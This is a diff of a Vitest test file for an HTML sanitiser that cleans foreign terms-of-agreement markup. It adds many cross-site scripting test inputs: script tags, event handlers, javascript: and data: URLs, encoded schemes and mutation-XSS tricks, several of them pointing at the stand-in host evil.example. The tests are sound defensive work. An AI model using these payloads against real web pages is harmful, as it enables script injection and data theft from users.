@@ -1,6 +1,6 @@
 import { render, screen } from '@testing-library/react';
 import userEvent from '@testing-library/user-event';
-import { describe, expect, it } from 'vitest';
+import { describe, expect, it, vi } from 'vitest';
 import type { AgreementFlow } from './agreement.ts';
 import { AgreementLink } from './agreement-link.tsx';
 import { failed, success, type Outcome } from '#values/outcome.ts';
@@ -73,23 +73,50 @@ describe('sanitiser of foreign HTML', () => {
 
   it.each([
     '<script>window.hacked = true</script>',
+    '<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>',
     '<img src=x onerror="window.hacked = true">',
-    '<p onclick="window.hacked = true">text</p>',
-    '<a href="javascript:window.hacked = true">link</a>',
-    '<a href="data:text/html,<script>1</script>">link</a>',
     '<iframe srcdoc="<script>1</script>"></iframe>',
-    '<form action="https://evil.example/"><input name="phone"></form>',
+    '<iframe src="https://evil.example/">blocked</iframe>',
+    '<object data="https://evil.example/"></object><embed src="https://evil.example/">',
+    '<input name="phone" autofocus>',
+    '<video src="https://evil.example/" autoplay></video>',
     '<style>* { display: none }</style>',
-    '<p style="position:fixed">text</p>',
-    '<svg><script>1</script></svg>',
+    '<link rel="stylesheet" href="https://evil.example/x.css">',
+    '<svg><script>window.hacked = true</script></svg>',
+    '<svg onload="window.hacked = true"><animate onbegin="window.hacked = true"></svg>',
     '<math><mtext><style><img src=x onerror=1></style></mtext></math>',
     '<base href="https://evil.example/">',
     '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
-    '<p id="location" class="cw-button" data-x="1">text</p>',
-  ])('sanitises %s', (html) => {
-    const left = clean(html);
-    expect(left).not.toMatch(/script|onerror|onclick|javascript|data:|iframe|form|input|style/i);
-    expect(left).not.toMatch(/svg|math|base|meta|id=|class=|data-x|img/i);
+    '<template><img src=x onerror=1></template>',
+    '<noscript><img src=x onerror=1></noscript>',
+    '<!--<img src="--><img src=x onerror=1>-->',
+  ])('sanitises %s between two paragraphs of terms', (html) => {
+    const left = clean(`<p>Before</p>${html}<p>After</p>`);
+    expect(left).toMatch(/^<div><p>Before<\/p>[^<]*(<p \/>)?[^<]*<p>After<\/p><\/div>$/);
+    expect(left).not.toMatch(/hacked|evil|phone|display/);
+  });
+
+  it.each([
+    ['<p onclick="window.hacked = true">Terms</p>', '<p>Terms</p>'],
+    ['<p style="position:fixed">Terms</p>', '<p>Terms</p>'],
+    ['<p id="location" class="cw-button" part="x" slot="y" data-x="1">Terms</p>', '<p>Terms</p>'],
+    ['<p aria-hidden="true" role="alert" tabindex="0">Terms</p>', '<p>Terms</p>'],
+    ['<b popover autofocus>Terms</b>', '<b>Terms</b>'],
+    ['<form action="https://evil.example/">Terms<button>go</button></form>', 'Termsgo'],
+    ['<a href="javascript:window.hacked = true">Terms</a>', '<a>Terms</a>'],
+    ['<a href=" java\nscript:window.hacked = true">Terms</a>', '<a>Terms</a>'],
+    ['<a href="&#106;avascript:window.hacked = true">Terms</a>', '<a>Terms</a>'],
+    ['<a href="vbscript:x">Terms</a>', '<a>Terms</a>'],
+    ['<a href="data:text/html,<script>1</script>">Terms</a>', '<a>Terms</a>'],
+    ['<a href="blob:https://evil.example/1">Terms</a>', '<a>Terms</a>'],
+    ['<a href="//evil.example/">Terms</a>', '<a>Terms</a>'],
+    [
+      '<a name="getElementById" target="_top" ping="https://evil.example/">Terms</a>',
+      '<a>Terms</a>',
+    ],
+    ['<td background="https://evil.example/x.png">Terms</td>', 'Terms'],
+  ])('sanitises the attributes of %s', (html, left) => {
+    expect(clean(html)).toBe(`<div>${left}</div>`);
   });
 
   it('keeps the text of a document that uses frames', () => {
@@ -108,6 +135,14 @@ describe('sanitiser of foreign HTML', () => {
       'Раз «два»',
     ]);
     expect(textOnly('<p> </p>')).toBeNull();
+    const refuse = () => {
+      throw new TypeError('This document requires TrustedHTML');
+    };
+    vi.spyOn(DOMParser.prototype, 'parseFromString').mockImplementation(refuse);
+    vi.spyOn(Element.prototype, 'innerHTML', 'set').mockImplementation(refuse);
+    const left = clean('<h1>Terms</h1><img src=x onerror=1><p>of &lt;img&gt;</p>');
+    vi.restoreAllMocks();
+    expect(left).toBe('<div><p>Terms</p><p>of &lt;img&gt;</p></div>');
   });
 
   it('keeps text, lists and tables, with headings one level below the dialog’s', () => {
